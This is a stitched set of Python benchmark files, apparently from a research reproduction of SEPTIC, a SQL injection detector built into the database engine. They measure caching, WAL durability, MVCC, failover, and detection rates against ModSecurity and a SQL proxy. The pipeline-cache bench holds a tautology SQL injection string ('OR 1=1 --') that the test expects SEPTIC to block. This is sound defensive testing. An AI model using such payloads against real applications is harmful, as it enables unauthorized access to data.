        print("ARTEFACT %s (saved to %s)" % (self.name, path))
        print("=" * 70)
        print(text)
        return text


@pytest.fixture
def report(request):
    rep = Report(request.node.name.replace("test_", "", 1))
    yield rep
    rep.emit()
