"""Shared helpers for the benchmark suite.

Each ``bench_*`` file regenerates one table/figure of the paper.  Besides
timing (pytest-benchmark), every bench PRINTS the paper-shaped rows and
writes them to ``benchmarks/out/<name>.txt`` so the artefacts survive
output capturing.  Headline numbers registered with ``report.metric()``
are additionally written to ``benchmarks/out/BENCH_<name>.json`` as a
list of ``{bench, metric, value, unit, commit}`` records, so runs are
diffable across commits.
"""

import json
import os
import subprocess

import pytest

OUT_DIR = os.path.join(os.path.dirname(__file__), "out")


def _current_commit():
    """The checked-out commit hash, or ``None`` outside a git checkout."""
    try:
        out = subprocess.run(
            ["git", "rev-parse", "HEAD"],
            cwd=os.path.dirname(os.path.abspath(__file__)),
            capture_output=True, text=True, timeout=10,
        )
    except (OSError, subprocess.SubprocessError):
        return None
    if out.returncode != 0:
        return None
    return out.stdout.strip() or None


class Report(object):
    """Collects the lines (and headline metrics) of one artefact."""

    def __init__(self, name):
        self.name = name
        self.lines = []
        self.metrics = []

    def line(self, text=""):
        self.lines.append(text)

    def metric(self, metric, value, unit):
        """Register one headline number for the JSON sidecar."""
        self.metrics.append({
            "bench": self.name,
            "metric": metric,
            "value": value,
            "unit": unit,
        })

    def table(self, headers, rows, widths=None):
        widths = widths or [max(12, len(h) + 2) for h in headers]
        fmt = "".join("%%-%ds" % w for w in widths)
        self.line(fmt % tuple(headers))
        for row in rows:
            self.line(fmt % tuple(str(c) for c in row))

    def emit(self):
        text = "\n".join(self.lines)
        os.makedirs(OUT_DIR, exist_ok=True)
        path = os.path.join(OUT_DIR, self.name + ".txt")
        with open(path, "w") as handle:
            handle.write(text + "\n")
        if self.metrics:
            commit = _current_commit()
            records = [dict(record, commit=commit)
                       for record in self.metrics]
            json_path = os.path.join(OUT_DIR, "BENCH_%s.json" % self.name)
            with open(json_path, "w") as handle:
                json.dump(records, handle, indent=1, sort_keys=True)
                handle.write("\n")
        print("\n" + "=" * 70)
        print("ARTEFACT %s (saved to %s)" % (self.name, path))
        print("=" * 70)
        print(text)
        return text


@pytest.fixture
def report(request):
    rep = Report(request.node.name.replace("test_", "", 1))
    yield rep
    rep.emit()
