"""E2 — Figure 2: QS and QM of the ticket query.

Regenerates both stacks exactly as printed in the paper and benchmarks
the QS&QM manager's core operations (stack copy + abstraction).
"""

from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.sqldb.engine import Database
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate

TICKET_SQL = ("SELECT * FROM tickets WHERE reservID = 'ID34FG' "
              "AND creditCard = 1234")


def _tickets_db():
    database = Database()
    database.seed(
        "CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, "
        "reservID VARCHAR(20), creditCard INT);"
    )
    return database


def test_figure2_artifact(report, benchmark):
    database = _tickets_db()
    stack = validate(parse_one(TICKET_SQL), database.tables)

    def build():
        qs = QueryStructure.from_stack(stack)
        return qs, QueryModel.from_structure(qs)

    qs, qm = benchmark(build)
    report.line("Figure 2(a) — query structure (QS), top of stack first:")
    report.line(qs.render())
    report.line()
    report.line("Figure 2(b) — query model (QM):")
    report.line(qm.render())
    report.metric("qs_nodes", len(qs), "nodes")
    report.metric("qm_nodes", len(qm), "nodes")
    assert len(qs) == len(qm) == 9


def test_bench_qs_build(benchmark):
    database = _tickets_db()
    statement = parse_one(TICKET_SQL)
    stack = validate(statement, database.tables)
    qs = benchmark(QueryStructure.from_stack, stack)
    assert len(qs) == 9


def test_bench_qm_build(benchmark):
    database = _tickets_db()
    stack = validate(parse_one(TICKET_SQL), database.tables)
    qs = QueryStructure.from_stack(stack)
    qm = benchmark(QueryModel.from_structure, qs)
    assert len(qm) == 9


def test_bench_full_pipeline_parse_to_qm(benchmark):
    database = _tickets_db()

    def pipeline():
        stack = validate(parse_one(TICKET_SQL), database.tables)
        return QueryModel.from_structure(QueryStructure.from_stack(stack))

    assert len(benchmark(pipeline)) == 9
