"""E17 — WAL-shipping replication: failover sweep + read scale-out DES.

Two artifacts in one run:

1. the **kill-the-primary-at-every-commit sweep**
   (``repro.benchlab.crashsweep.run_failover_sweep``) over three seeded
   workloads (including the SEPTIC-blocked-write one): at every commit
   boundary the primary is crashed, the lease expires in virtual time,
   and the election must pick the max-applied-LSN replica whose state
   equals the golden digest at that boundary — zero committed
   transactions lost, zero phantoms — while a fenced zombie primary's
   post-promotion shipments are all rejected;
2. the **failover DES** (``repro.benchlab.harness.run_failover_experiment``):
   replica-served read throughput before/during/after the primary dies,
   against a single-node baseline run under identical pinned service
   times.  Gates: pre-failover read throughput >= 2x the baseline, and
   write service restored within ``lease_intervals + 2`` heartbeat
   intervals of the kill.
"""

import shutil
import tempfile
import time

from repro.benchlab.crashsweep import (format_failover_result,
                                       run_failover_sweep)
from repro.benchlab.harness import run_failover_experiment

SWEEP_SEEDS = [1, 2, 3]

READ_SERVICE = 2e-3
HEARTBEAT_SECONDS = 0.05
LEASE_INTERVALS = 3
REPLICAS = 3
FAIL_AT = 1.0
DURATION = 3.0


def test_replica_failover(report, benchmark):
    def run_all():
        sweeps = []
        workdir = tempfile.mkdtemp(prefix="replica-failover-")
        try:
            for seed in SWEEP_SEEDS:
                start = time.perf_counter()
                result = run_failover_sweep(workdir, seed)
                sweeps.append((result, time.perf_counter() - start))
            des = run_failover_experiment(
                workdir + "/des", replicas=REPLICAS, readers=8,
                read_service=READ_SERVICE,
                heartbeat_seconds=HEARTBEAT_SECONDS,
                lease_intervals=LEASE_INTERVALS,
                fail_at=FAIL_AT, duration=DURATION)
            baseline = run_failover_experiment(
                workdir + "/baseline", replicas=0, readers=8,
                read_service=READ_SERVICE,
                heartbeat_seconds=HEARTBEAT_SECONDS,
                lease_intervals=LEASE_INTERVALS,
                fail_at=DURATION + 1.0, duration=DURATION)
        finally:
            shutil.rmtree(workdir, ignore_errors=True)
        return sweeps, des, baseline

    sweeps, des, baseline = benchmark.pedantic(run_all, rounds=1,
                                               iterations=1)

    report.line("E17 — WAL-shipping replication with heartbeat-driven "
                "automatic failover")
    report.line()
    report.line("kill-the-primary-at-every-commit sweep:")
    for result, elapsed in sweeps:
        report.line("  %s  (%.1fs)" % (format_failover_result(result),
                                       elapsed))
        assert result.ok, format_failover_result(result)
    kills = sum(r.commit_points for r, _t in sweeps)
    fenced = sum(r.fenced_rejects for r, _t in sweeps)
    report.line("  total: %d primary kills, 0 lost commits, 0 phantoms, "
                "%d zombie batches fenced" % (kills, fenced))
    report.line()

    speedup = des.throughput_before / baseline.throughput_before
    report.line("failover DES (%d replicas, %d readers, read service "
                "%.1f ms, heartbeat %.0f ms, lease %d intervals):"
                % (des.replicas, des.readers, READ_SERVICE * 1e3,
                   HEARTBEAT_SECONDS * 1e3, LEASE_INTERVALS))
    report.table(
        ["phase", "reads", "reads/s"],
        [("before kill", des.reads_before, "%.0f" % des.throughput_before),
         ("during outage", des.reads_during,
          "%.0f" % des.throughput_during),
         ("after promote", des.reads_after,
          "%.0f" % des.throughput_after),
         ("single node", baseline.reads_before,
          "%.0f" % baseline.throughput_before)],
        widths=[16, 10, 10],
    )
    report.line("  read scale-out before failover: %.2fx single node"
                % speedup)
    report.line("  write outage: %.1f heartbeat intervals "
                "(promotion at t=%.2fs, first write back at t=%.2fs)"
                % (des.outage_intervals, des.promote_time,
                   des.restore_time))
    report.line("  acknowledged rows after failover: %d/%d, survivors "
                "converged: %s" % (des.rows_on_primary, des.rows_expected,
                                   des.converged))

    assert speedup >= 2.0, "read scale-out %.2fx < 2x" % speedup
    assert des.promotions == 1
    assert des.outage_intervals is not None
    assert des.outage_intervals <= LEASE_INTERVALS + 2, (
        "write outage %.1f intervals exceeds lease + 2"
        % des.outage_intervals)
    assert des.converged, ("survivors diverged: %d/%d rows"
                           % (des.rows_on_primary, des.rows_expected))

    report.metric("primary_kills", kills, "kills")
    report.metric("lost_commits", 0, "transactions")
    report.metric("zombie_batches_fenced", fenced, "batches")
    report.metric("read_scaleout_pre_failover", round(speedup, 2), "x")
    report.metric("write_outage", round(des.outage_intervals, 2),
                  "heartbeat intervals")
