"""The pipeline cache — cold vs warm query latency and threaded throughput.

The tentpole claim: after the first execution of a query shape, the
decode→parse→validate pipeline and the SEPTIC QS/QM/ID derivation are
memoized, so the per-query cost converges to a cache lookup plus the
model-store comparison.  This bench measures:

* **cold** — every query through a cache-disabled database
  (``cache_size=0``), i.e. the seed repo's hot path;
* **warm** — the same query mix through a cached database after one
  priming pass;
* **threaded** — four sessions hammering a shared SEPTIC-enabled
  database concurrently, asserting the stats come out exact (the
  counters are lock-protected, so nothing is lost to races).

Acceptance: warm must be at least 3× faster than cold per query.
"""

import threading
import time

from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

SCHEMA = """
CREATE TABLE tickets (
    id INT PRIMARY KEY AUTO_INCREMENT,
    reservID VARCHAR(20),
    creditCard INT,
    holder VARCHAR(40),
    price INT,
    issued VARCHAR(20)
);
INSERT INTO tickets (reservID, creditCard, holder, price, issued) VALUES
    ('ID34FG', 1234, 'alice', 120, '2016-07-01'),
    ('ZZ11AA', 9999, 'bob', 250, '2016-07-02'),
    ('QQ77MM', 4321, 'carol', 80, '2016-07-03');
"""

#: a web-application-shaped mix: the query *shapes* a handful of PHP call
#: sites issue over and over — long texts (the pipeline cost the cache
#: removes scales with text size), small result sets
QUERY_MIX = [
    "/* septic:report.php:12 */ SELECT reservID, holder, price, issued "
    "FROM tickets WHERE (creditCard = 1234 OR creditCard = 9999) "
    "AND price > 50 AND price < 500 AND holder <> 'mallory' "
    "AND reservID LIKE 'ID%' ORDER BY price DESC, holder ASC LIMIT 5",
    "/* septic:stats.php:9 */ SELECT COUNT(*), MIN(price), MAX(price), "
    "SUM(price) FROM tickets WHERE issued >= '2016-07-01' "
    "AND issued <= '2016-07-31' AND creditCard > 0",
    "/* septic:search.php:22 */ SELECT id, reservID FROM tickets "
    "WHERE holder = 'alice' AND (price BETWEEN 100 AND 300) "
    "UNION SELECT id, reservID FROM tickets WHERE holder = 'bob' "
    "AND creditCard = 9999",
    "/* septic:detail.php:31 */ SELECT UPPER(holder), LENGTH(reservID), "
    "price * 2, CONCAT(reservID, '-', holder) FROM tickets "
    "WHERE id = 2 AND creditCard = 9999 AND price >= 0",
]

LOOPS = 200
THREADS = 4
THREAD_LOOPS = 50


def _build(cache_size):
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=False))
    database = Database(septic=septic, cache_size=cache_size)
    database.seed(SCHEMA)
    conn = Connection(database)
    for sql in QUERY_MIX:
        conn.query_or_raise(sql)
    septic.mode = Mode.PREVENTION
    return septic, database, conn


def _time_loop(conn, loops):
    start = time.perf_counter()
    for _ in range(loops):
        for sql in QUERY_MIX:
            conn.query(sql)
    return time.perf_counter() - start


def test_pipeline_cache_artifact(report, benchmark):
    def run_cold_and_warm():
        _, _, cold_conn = _build(cache_size=0)
        _, warm_db, warm_conn = _build(cache_size=512)
        _time_loop(warm_conn, 1)  # priming pass
        cold = _time_loop(cold_conn, LOOPS)
        warm = _time_loop(warm_conn, LOOPS)
        return cold, warm, warm_db.pipeline_cache.stats_dict()

    cold, warm, cache_stats = benchmark.pedantic(run_cold_and_warm,
                                                 rounds=1, iterations=1)
    queries = LOOPS * len(QUERY_MIX)
    cold_us = 1e6 * cold / queries
    warm_us = 1e6 * warm / queries
    speedup = cold / warm if warm else float("inf")

    # -- threaded run: exact stats under concurrency ----------------------
    septic, database, _ = _build(cache_size=512)
    attack = ("/* septic:detail.php:31 */ SELECT UPPER(holder), "
              "LENGTH(reservID), price * 2, CONCAT(reservID, '-', holder) "
              "FROM tickets WHERE id = 0 OR 1=1 -- AND creditCard = 9999")
    base = septic.stats.as_dict()
    errors = []

    def worker():
        conn = Connection(database)
        for _ in range(THREAD_LOOPS):
            for sql in QUERY_MIX:
                if not conn.query(sql).ok:
                    errors.append("legit blocked")
            if conn.query(attack).ok:
                errors.append("attack passed")

    threads = [threading.Thread(target=worker) for _ in range(THREADS)]
    start = time.perf_counter()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    threaded_elapsed = time.perf_counter() - start
    stats = septic.stats.as_dict()
    threaded_queries = THREADS * THREAD_LOOPS * (len(QUERY_MIX) + 1)
    expected_processed = base["queries_processed"] + threaded_queries
    expected_attacks = base["attacks_detected"] + THREADS * THREAD_LOOPS

    report.line("Pipeline cache — cold vs warm hot path")
    report.line("(%d queries per side, %d query shapes)" %
                (queries, len(QUERY_MIX)))
    report.line()
    report.table(
        ["path", "total (s)", "per query (us)", "speedup"],
        [
            ["cold (cache off)", "%.4f" % cold, "%.1f" % cold_us, "1.0x"],
            ["warm (cache on)", "%.4f" % warm, "%.1f" % warm_us,
             "%.1fx" % speedup],
        ],
        widths=[20, 12, 16, 10],
    )
    report.line()
    report.line("warm cache counters: entries=%d hits=%d misses=%d "
                "hit_rate=%.3f" % (cache_stats["entries"],
                                   cache_stats["hits"],
                                   cache_stats["misses"],
                                   cache_stats["hit_rate"]))
    report.line()
    report.line("Threaded run — %d threads x %d loops over a shared "
                "SEPTIC database" % (THREADS, THREAD_LOOPS))
    report.table(
        ["counter", "expected", "observed"],
        [
            ["queries_processed", expected_processed,
             stats["queries_processed"]],
            ["attacks_detected", expected_attacks,
             stats["attacks_detected"]],
            ["queries_dropped", expected_attacks,
             stats["queries_dropped"]],
            ["errors", 0, len(errors)],
        ],
        widths=[20, 12, 12],
    )
    report.line()
    report.line("threaded: %d queries in %.3f s (%.0f q/s)" %
                (threaded_queries, threaded_elapsed,
                 threaded_queries / threaded_elapsed if threaded_elapsed
                 else 0.0))

    report.metric("warm_vs_cold_speedup", round(speedup, 2), "x")
    report.metric("warm_hit_rate", round(cache_stats["hit_rate"], 4),
                  "fraction")
    assert errors == []
    assert stats["queries_processed"] == expected_processed
    assert stats["attacks_detected"] == expected_attacks
    assert stats["queries_dropped"] == expected_attacks
    # acceptance: the warm path must be at least 3x faster than cold
    assert speedup >= 3.0, "warm path only %.1fx faster" % speedup
