"""WAL durability cost: per-commit fsync vs group commit vs none.

The durability layer has one tunable that matters — *when to fsync* —
and this bench puts numbers on it over a write-heavy workload:

* ``no WAL``      — the in-memory engine, the absolute baseline;
* ``sync=off``    — full logging, never fsync (what the framing and
  replay machinery cost by themselves);
* ``sync=batch``  — fsync every 16 durability points (group commit);
* ``sync=commit`` — fsync at *every* durability point (the strict
  default the crash sweep is run under).

Times are wall-clock and environment-dependent; the fsync *counts* are
exact and asserted, so the artifact always shows the real trade:
batched mode buys back almost all of the per-commit fsync traffic at
the price of a bounded tail of acknowledged-but-unsynced commits.
"""

import shutil
import tempfile
import time

from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

WRITES = 400
REPEATS = 3

SCHEMA = ("CREATE TABLE readings (id INT AUTO_INCREMENT PRIMARY KEY, "
          "device VARCHAR(20), watts INT, taken DATETIME)")


def _run_writes(database):
    conn = Connection(database)
    conn.query_or_raise(SCHEMA)
    start = time.perf_counter()
    for index in range(WRITES):
        conn.query_or_raise(
            "INSERT INTO readings (device, watts, taken) "
            "VALUES ('dev-%d', %d, NOW())" % (index % 7, index)
        )
    elapsed = time.perf_counter() - start
    return elapsed, len(database.table("readings"))


def _measure(build):
    """Median elapsed over REPEATS fresh runs of *build* → (db, cleanup)."""
    samples = []
    rows = stats = None
    for _ in range(REPEATS):
        database, cleanup = build()
        try:
            elapsed, rows = _run_writes(database)
            stats = (database.wal.stats_dict()
                     if database.wal is not None else None)
        finally:
            database.close()
            cleanup()
        samples.append(elapsed)
    samples.sort()
    return samples[len(samples) // 2], rows, stats


def _durable_build(sync_mode):
    def build():
        tmp = tempfile.mkdtemp(prefix="wal-bench-")
        database = Database.recover(tmp, wal_sync=sync_mode)
        return database, lambda: shutil.rmtree(tmp, ignore_errors=True)
    return build


def test_wal_overhead_artifact(report, benchmark):
    def run_measurements():
        results = {}
        results["none"] = _measure(lambda: (Database(), lambda: None))
        for mode in ("off", "batch", "commit"):
            results[mode] = _measure(_durable_build(mode))
        return results

    results = benchmark.pedantic(run_measurements, rounds=1, iterations=1)

    base, _rows, _ = results["none"]
    rows = []
    for label, key in (("no WAL (baseline)", "none"),
                       ("WAL, sync=off", "off"),
                       ("WAL, batch of 16", "batch"),
                       ("WAL, per-commit", "commit")):
        elapsed, _count, stats = results[key]
        per_write_us = 1e6 * elapsed / (WRITES + 1)
        ratio = elapsed / base if base else 0.0
        fsyncs = stats["fsync_calls"] if stats else 0
        rows.append([label, "%.1f" % per_write_us, "%.2fx" % ratio,
                     str(fsyncs)])

    report.line("WAL durability overhead — %d autocommit INSERTs, "
                "median of %d runs" % (WRITES, REPEATS))
    report.line()
    report.table(["mode", "per write (us)", "vs baseline", "fsyncs"],
                 rows, widths=[22, 16, 14, 8])
    report.line()
    commit_stats = results["commit"][2]
    batch_stats = results["batch"][2]
    report.line("per-commit mode fsyncs once per durability point "
                "(%d); group commit collapses that to %d — the crash "
                "window it opens is bounded at 16 acknowledged commits."
                % (commit_stats["fsync_calls"],
                   batch_stats["fsync_calls"]))

    for key in ("commit", "batch", "off"):
        if key in results and base:
            report.metric("wal_%s_vs_baseline" % key,
                          round(results[key][0] / base, 3), "x")
    # every mode wrote the same workload…
    assert all(count == WRITES for _t, count, _s in results.values())
    # …and the sync disciplines did what they claim (counts are exact):
    # schema + 400 inserts = 401 durability points
    assert commit_stats["commits"] == WRITES + 1
    assert commit_stats["fsync_calls"] == WRITES + 1
    assert batch_stats["fsync_calls"] <= (WRITES + 1) // 16 + 2
    assert results["off"][2]["fsync_calls"] <= 1  # close() only
