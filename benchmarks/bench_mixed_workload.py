"""E16 — MVCC mixed workload: writers never block readers.

Under MVCC, SELECTs take no table locks at all: readers pin a snapshot
watermark and walk the version chains, so a long UPDATE of the *same*
table no longer stalls them.  This bench replays a read workload
against a concurrent same-table writer through the virtual-time
:class:`LockContentionModel` — once under ``lock_mode="shared"`` (the
MVCC lock plans: reads lock nothing, DML locks its target table) and
once under ``lock_mode="exclusive"`` (the serialized engine).  Service
times are pinned so the only variable is the admitted schedule.

Gate: at 8 readers the MVCC schedule must carry at least 4× the
aggregate read throughput of the serialized baseline, and the readers
must finish while the writer is still running (true overlap, not just
reordering).

A real-thread section then drives the actual engine — 8 reader threads
against a same-table writer — to prove snapshot reads are never torn:
every SELECT sees the transfer invariant (SUM constant) hold.
"""

import threading

from repro.benchlab.harness import run_mixed_workload_experiment
from repro.sqldb.engine import Database

SETUP = (
    "CREATE TABLE accounts (id INT AUTO_INCREMENT PRIMARY KEY, "
    "owner VARCHAR(40), balance INT);"
    + "".join(
        "INSERT INTO accounts (owner, balance) VALUES ('user%d', 100);"
        % i
        for i in range(40)
    )
)

READ_WORKLOAD = [
    "SELECT * FROM accounts WHERE balance > 50",
    "SELECT owner, balance FROM accounts WHERE id = 7",
    "SELECT COUNT(*) FROM accounts",
    "SELECT owner FROM accounts WHERE balance BETWEEN 10 AND 160 "
    "ORDER BY balance LIMIT 5",
]

# the long same-table writer the readers must NOT wait behind
WRITER_SQL = "UPDATE accounts SET balance = balance + 1"

READERS = 8
LOOPS = 5


def test_mixed_workload(report):
    pinned = [0.001] * len(READ_WORKLOAD)
    mvcc = run_mixed_workload_experiment(
        SETUP, READ_WORKLOAD, WRITER_SQL, readers=READERS, loops=LOOPS,
        lock_mode="shared", reader_service=pinned, writer_service=1.0,
    )
    serialized = run_mixed_workload_experiment(
        SETUP, READ_WORKLOAD, WRITER_SQL, readers=READERS, loops=LOOPS,
        lock_mode="exclusive", reader_service=pinned, writer_service=1.0,
    )
    speedup = mvcc.reader_speedup_vs(serialized)
    report.line("MVCC mixed workload — %d readers vs one same-table "
                "UPDATE (1 s service time)" % READERS)
    report.line()
    report.table(
        ["mode", "reads", "reader makespan", "writer makespan",
         "reads/s"],
        [
            ["mvcc", "%d" % mvcc.reader_statements,
             "%.6f s" % mvcc.reader_makespan,
             "%.6f s" % mvcc.writer_makespan,
             "%.0f" % mvcc.reader_throughput],
            ["exclusive", "%d" % serialized.reader_statements,
             "%.6f s" % serialized.reader_makespan,
             "%.6f s" % serialized.writer_makespan,
             "%.0f" % serialized.reader_throughput],
        ],
        widths=[12, 8, 18, 18, 12],
    )
    report.line()
    report.line("read throughput speedup at %d readers: %.2fx"
                % (READERS, speedup))
    report.line("readers overlapped the writer: %s"
                % mvcc.readers_overlapped_writer)
    report.metric("mixed_read_speedup_8w", round(speedup, 3), "x")
    report.metric("mvcc_reader_throughput_8w",
                  round(mvcc.reader_throughput, 1), "stmts/s")
    report.metric("exclusive_reader_throughput_8w",
                  round(serialized.reader_throughput, 1), "stmts/s")
    # acceptance gate: >= 4x read throughput with a same-table writer
    assert speedup >= 4.0, (
        "MVCC readers only reached %.2fx over the serialized baseline "
        "with a same-table writer (gate: 4x)" % speedup
    )
    # true overlap: readers drain while the 1 s writer is still running
    assert mvcc.readers_overlapped_writer
    assert not serialized.readers_overlapped_writer
    assert mvcc.reader_statements == serialized.reader_statements


def test_mixed_workload_real_threads(report):
    """8 reader threads vs a same-table writer on the real engine: no
    deadlock, and no reader ever observes a torn transfer."""
    database = Database(lock_mode="shared")
    database.seed(SETUP)
    total = 40 * 100
    errors = []
    sums = []
    done = threading.Event()

    def reader():
        try:
            session = database.create_session()
            while not done.is_set():
                value = database.run(
                    "SELECT SUM(balance) FROM accounts",
                    session=session,
                )[0].result_set.scalar()
                sums.append(value)
        except Exception as exc:  # pragma: no cover - failure path
            errors.append(exc)

    def writer():
        try:
            session = database.create_session()
            for i in range(30):
                src, dst = (i % 40) + 1, ((i + 1) % 40) + 1
                database.run("BEGIN", session=session)
                database.run(
                    "UPDATE accounts SET balance = balance - 5 "
                    "WHERE id = %d" % src, session=session)
                database.run(
                    "UPDATE accounts SET balance = balance + 5 "
                    "WHERE id = %d" % dst, session=session)
                database.run("COMMIT", session=session)
        except Exception as exc:  # pragma: no cover - failure path
            errors.append(exc)
        finally:
            done.set()

    threads = [threading.Thread(target=reader) for _ in range(READERS)]
    threads.append(threading.Thread(target=writer))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert not any(thread.is_alive() for thread in threads), "deadlock"
    assert not errors, errors
    # snapshot isolation: every read saw the invariant hold exactly
    torn = [value for value in sums if value != total]
    assert torn == [], "torn reads observed: %s" % torn[:5]
    report.line("8 reader threads vs same-table transfer writer: "
                "%d snapshot reads, 0 torn (SUM always %d)"
                % (len(sums), total))
    report.metric("real_thread_snapshot_reads", len(sums), "statements")
    report.metric("real_thread_torn_reads", len(torn), "statements")
