"""E7 — §IV demo phases: detection accuracy across deployments.

Regenerates the phase A/B/D/E results as a table: per attack, whether it
succeeds unprotected, whether ModSecurity blocks it, whether SEPTIC
blocks it — plus the aggregate false-negative/false-positive counts the
demo narrates.
"""

from repro.attacks.corpus import benign_cases, run_case, waspmon_attacks
from repro.attacks.scenario import build_scenario

SELF_DEFEATING = {"numeric_piggyback", "login_tautology_ascii"}


def _run_matrix():
    matrix = {}
    for protection in ("none", "modsec", "septic", "dbfirewall"):
        scenario = build_scenario(protection)
        matrix[protection] = {
            "scenario": scenario,
            "outcomes": {
                case.name: run_case(scenario.server, scenario.app, case)
                for case in waspmon_attacks()
            },
        }
    # false positives over benign traffic in the SEPTIC deployment
    septic_scenario = matrix["septic"]["scenario"]
    fp = 0
    for case in benign_cases(septic_scenario.app):
        outcome = run_case(septic_scenario.server, septic_scenario.app,
                           case)
        if outcome.blocked or not outcome.succeeded:
            fp += 1
    matrix["false_positives"] = fp
    return matrix


def test_phases_artifact(report, benchmark):
    matrix = benchmark.pedantic(_run_matrix, rounds=1, iterations=1)
    none_out = matrix["none"]["outcomes"]
    modsec_out = matrix["modsec"]["outcomes"]
    septic_out = matrix["septic"]["outcomes"]
    firewall_out = matrix["dbfirewall"]["outcomes"]

    report.line("§IV phases — attack outcomes per deployment")
    report.line("(dbfirewall = GreenSQL-style SQL proxy, the related-work")
    report.line(" comparator of §I/§II-B)")
    report.line()
    rows = []
    for case in waspmon_attacks():
        rows.append([
            case.name,
            case.channel,
            "pwned" if none_out[case.name].succeeded else "self-defeats",
            "blocked" if modsec_out[case.name].waf_blocked else "MISSED",
            "blocked" if firewall_out[case.name].firewall_blocked
            else ("n/a" if case.name in SELF_DEFEATING else "MISSED"),
            "blocked" if septic_out[case.name].septic_blocked else (
                "n/a" if case.name in SELF_DEFEATING else "MISSED"),
        ])
    report.table(
        ["attack", "channel", "unprotected", "ModSecurity",
         "SQL proxy", "SEPTIC"],
        rows,
        widths=[28, 24, 14, 13, 11, 9],
    )
    viable = [c.name for c in waspmon_attacks()
              if c.name not in SELF_DEFEATING]
    waf_fn = sum(1 for name in viable
                 if not modsec_out[name].waf_blocked)
    firewall_fn = sum(1 for name in viable
                      if not firewall_out[name].firewall_blocked)
    septic_fn = sum(1 for name in viable
                    if not septic_out[name].septic_blocked)
    report.line()
    report.line("viable attacks: %d" % len(viable))
    report.line("ModSecurity false negatives: %d" % waf_fn)
    report.line("SQL proxy false negatives:   %d" % firewall_fn)
    report.line("SEPTIC false negatives:      %d" % septic_fn)
    report.line("SEPTIC false positives:      %d"
                % matrix["false_positives"])

    # phase A: everything viable lands
    assert all(none_out[name].succeeded for name in viable)
    # phase B: ModSecurity helps but has false negatives
    assert 0 < waf_fn < len(viable)
    # related work: the outside-the-DBMS proxy misses every channel that
    # only materializes after DBMS decoding, plus all stored injection
    assert firewall_fn > waf_fn
    report.metric("septic_false_negatives", septic_fn, "attacks")
    report.metric("septic_false_positives", matrix["false_positives"],
                  "queries")
    report.metric("waf_false_negatives", waf_fn, "attacks")
    # phase D/E: SEPTIC blocks everything, no false positives
    assert septic_fn == 0
    assert matrix["false_positives"] == 0


def test_bench_attack_corpus_under_septic(benchmark):
    """Cost of pushing the whole corpus through a SEPTIC deployment."""
    scenario = build_scenario("septic")

    def run_all():
        return [run_case(scenario.server, scenario.app, case)
                for case in waspmon_attacks()]

    outcomes = benchmark.pedantic(run_all, rounds=1, iterations=3)
    assert not any(o.succeeded for o in outcomes)
