"""Ablation — the external identifier (SSLE support).

SEPTIC's query ID composes an optional *external* identifier (call site,
sent by the Zend shim in a prefix comment) with a mandatory *internal*
one (a hash of the query model).  A structurally-mutated query changes
its internal hash, so without the external identifier SEPTIC cannot
attribute the mutation to a trained call site: the query falls into the
incremental-learning path (flagged for administrator review) instead of
being dropped on the spot.

This bench quantifies that design point: the same attack corpus with the
SSLE support on vs off.
"""

from repro.attacks.corpus import run_case, waspmon_attacks
from repro.attacks.scenario import build_scenario
from repro.apps.waspmon import WaspMon
from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.sqldb.engine import Database
from repro.web.server import WebServer

SELF_DEFEATING = {"numeric_piggyback", "login_tautology_ascii"}


def _scenario_without_external_ids():
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=False))
    database = Database(septic=septic)
    app = WaspMon(database, send_external_ids=False)
    app.php_gbk.send_external_ids = False
    for _ in range(2):
        for request in app.benign_requests():
            app.handle(request)
    septic.mode = Mode.PREVENTION
    return WebServer(app), app, septic


def _measure(server, app, septic):
    blocked = 0
    succeeded = 0
    learned_before = septic.stats.models_learned
    for case in waspmon_attacks():
        outcome = run_case(server, app, case)
        if outcome.septic_blocked:
            blocked += 1
        if outcome.succeeded:
            succeeded += 1
    flagged = septic.stats.models_learned - learned_before
    return blocked, succeeded, flagged


def test_ablation_external_ids_artifact(report, benchmark):
    def run_both():
        with_ids = build_scenario("septic")
        a = _measure(with_ids.server, with_ids.app, with_ids.septic)
        server, app, septic = _scenario_without_external_ids()
        b = _measure(server, app, septic)
        return a, b

    (with_blocked, with_success, with_flagged), \
        (wo_blocked, wo_success, wo_flagged) = benchmark.pedantic(
            run_both, rounds=1, iterations=1,
        )
    report.line("Ablation — SSLE external identifiers (call-site IDs)")
    report.line()
    report.table(
        ["configuration", "blocked", "succeeded", "flagged-for-review"],
        [
            ["external IDs ON", with_blocked, with_success, with_flagged],
            ["external IDs OFF", wo_blocked, wo_success, wo_flagged],
        ],
        widths=[20, 10, 12, 20],
    )
    report.line()
    report.line(
        "Without call-site attribution, structurally-mutated SQLI falls\n"
        "into incremental learning (administrator review) instead of\n"
        "being dropped; stored-injection plugins are ID-independent and\n"
        "keep blocking."
    )
    report.metric("attacks_blocked_with_ids", with_blocked, "attacks")
    report.metric("attacks_blocked_without_ids", wo_blocked, "attacks")
    # with IDs: every viable attack blocked, none succeed
    assert with_blocked == len(waspmon_attacks()) - len(SELF_DEFEATING)
    assert with_success == 0
    # without IDs: strictly fewer blocks, some SQLI succeed, and the
    # mutated queries surface as new models to review
    assert wo_blocked < with_blocked
    assert wo_success > 0
    assert wo_flagged > 0
    # stored injection detection does not depend on IDs at all
    stored = [c for c in waspmon_attacks() if c.category.startswith("STORED")]
    server, app, septic = _scenario_without_external_ids()
    for case in stored:
        assert run_case(server, app, case).septic_blocked, case.name
