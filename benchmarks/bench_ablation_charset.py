"""Ablation — the DBMS decoding quirks (the semantic mismatch itself).

The substrate implements MySQL's decoding behaviours explicitly
(unicode-confusable folding, GBK escape-eating).  Running the same
attack payloads against a hypothetical strict decoder shows that the
decoding quirks — not the application code — are what the unicode/GBK
channels exploit; conversely the channels that need no decoding
(numeric context, second order via ASCII) survive the strict decoder.
"""

from repro.apps.waspmon import WaspMon
from repro.attacks import payloads
from repro.sqldb.engine import Database
from repro.web.http import Request


def _app(charset):
    database = Database(charset=charset)
    app = WaspMon(database)
